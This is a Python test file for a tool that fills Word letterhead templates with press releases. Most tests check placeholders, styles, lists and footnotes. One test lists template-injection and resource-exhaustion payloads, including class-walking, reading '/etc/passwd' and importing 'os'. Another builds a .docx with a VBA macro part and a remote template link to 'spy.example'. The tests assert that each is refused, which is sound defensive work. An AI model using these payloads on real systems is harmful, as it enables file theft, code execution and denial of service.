from __future__ import annotations

from datetime import datetime
from io import BytesIO
from pathlib import Path
from typing import Any

import docx
import pytest
from docx.oxml.ns import qn

from pressdesk.base.problem import InputError
from pressdesk.model.story import Block, Span, Story
from pressdesk.output.word import WordOptions
from pressdesk.output.word.letterhead import write_on_letterhead
from tests.output.documents import block, release, story, titled
from tests.output.word.packages import changed, part, plain, saved


def filled(path: Path, document: Any = None) -> Any:
    stream = BytesIO()
    write_on_letterhead(document or release(), path, stream, WordOptions("Veille", datetime(2027, 1, 18)))
    return docx.Document(stream)


def refused(path: Path) -> str:
    with pytest.raises(InputError) as caught:
        filled(path)
    (problem,) = caught.value.problems
    return problem.message


def test_names_are_filled_and_the_text_stands_in_its_place(tmp_path: Path) -> None:
    word = filled(saved(tmp_path, plain("Chez nous", "{{ title }}", "{{ date }}", "{{ body }}", "Au revoir")))
    texts = [one.text for one in word.paragraphs]
    assert texts[:4] == [
        "Chez nous",
        "Vallée de l’Orcelle\u00a0: le 17\u00a0avril, les soignants ferment leurs cabinets",
        "Vaubrune, le 1er\u00a0mars 2027",
        texts[3],
    ]
    assert texts[3].startswith("Ils sont 148")
    assert texts[-1] == "Au revoir"
    assert "body" not in " ".join(texts)


def test_the_letterheads_own_styles_are_taken(tmp_path: Path) -> None:
    word = filled(saved(tmp_path, plain("{{ body }}")))
    heading = next(one for one in word.paragraphs if one.text == "Une vallée que l’on soigne au volant")
    assert heading.style.name == "Heading 1"
    ids = [style.style_id for style in word.styles]
    names = [style.name for style in word.styles]
    assert len(set(ids)) == len(ids) and len(set(names)) == len(names)


def test_lists_keep_apart_from_those_of_the_letterhead(tmp_path: Path) -> None:
    document = release(story(block("number", "premier", number=1), block("bullet", "puce", number=1)))
    word = filled(saved(tmp_path, plain("{{ body }}")), document)
    root = word.part.numbering_part.element
    known = {one.get(qn("w:numId")): one for one in root.findall(qn("w:num"))}
    abstract = {one.get(qn("w:abstractNumId")): one for one in root.findall(qn("w:abstractNum"))}
    for words, form in (("premier", "decimal"), ("puce", "bullet")):
        paragraph = next(one for one in word.paragraphs if one.text == words)
        list_of = known[str(paragraph._p.pPr.numPr.numId.val)].find(qn("w:abstractNumId")).get(qn("w:val"))
        assert abstract[list_of].find(qn("w:lvl")).find(qn("w:numFmt")).get(qn("w:val")) == form
    tags = [one.tag for one in root]
    assert tags == sorted(tags, key=lambda tag: tag != qn("w:abstractNum"))


def test_foot_notes_come_along(tmp_path: Path) -> None:
    called = Story((Block("paragraph", (Span("Ici"), Span("1", note=1))),), ((Span("Source."),),))
    first = filled(saved(tmp_path, plain("{{ body }}")), release(called))
    again = BytesIO()
    first.add_paragraph("{{ body }}")
    first.save(again)
    word = filled(saved(tmp_path, again.getvalue()), release(called))
    calls = [one.get(qn("w:id")) for one in word.element.body.iter(qn("w:footnoteReference"))]
    assert calls == ["1", "2"]


def test_it_may_choose_and_repeat(tmp_path: Path) -> None:
    lines = [
        "{% if embargo %}Chut : {{ embargo }}{% endif %}",
        "{% for name in organisations %}{{ name }}; {% endfor %}",
        "{{ body }}",
    ]
    texts = [one.text for one in filled(saved(tmp_path, plain(*lines))).paragraphs]
    assert texts[0].startswith("Chut : Embargo jusqu’au")
    assert texts[1].count(";") == 2


def test_what_is_typed_is_no_markup(tmp_path: Path) -> None:
    document = titled("<w:p> & {{ body }}")
    texts = [one.text for one in filled(saved(tmp_path, plain("{{ title }}", "{{ body }}")), document).paragraphs]
    assert texts[0] == "<w:p> & {{ body }}"


@pytest.mark.parametrize(
    "line",
    [
        "{{ ''.__class__.__mro__ }}",
        "{{ title.__class__ }}",
        "{{ title.format(1) }}",
        "{{ cycler.__init__ }}",
        "{{ 'x' * 10000000000 }}",
        "{{ range(1000000000) }}",
        "{{ title|center(1000000000) }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}",
        "{% set a = title %}",
        "{% macro m() %}{% endmacro %}",
        "{% for a in head %}" * 9 + "x" + "{% endfor %}" * 9,
        "{{ unknown_name }}",
        "{{ title",
        "{% if title %}",
    ],
)
def test_it_can_reach_nothing_else(tmp_path: Path, line: str) -> None:
    message = refused(saved(tmp_path, plain(line, "{{ body }}")))
    assert message.startswith("The letterhead “lettre.docx” cannot be used: ")


def test_without_a_place_for_the_text_it_is_refused(tmp_path: Path) -> None:
    assert "{{ body }}" in refused(saved(tmp_path, plain("Bonjour")))


def test_hostile_letterheads_are_refused(tmp_path: Path) -> None:
    good = plain("{{ body }}")
    assert "macro" in refused(saved(tmp_path, changed(good, {"word/vbaProject.bin": b"x"})))
    rels = part(good, "word/_rels/document.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId90" Type="x/attachedTemplate" Target="http://spy.example/t.dotm" '
        b'TargetMode="External"/></Relationships>',
    )
    assert "spy.example" in refused(saved(tmp_path, changed(good, {"word/_rels/document.xml.rels": rels})))
    assert "broken" in refused(saved(tmp_path, b"PK nothing"))
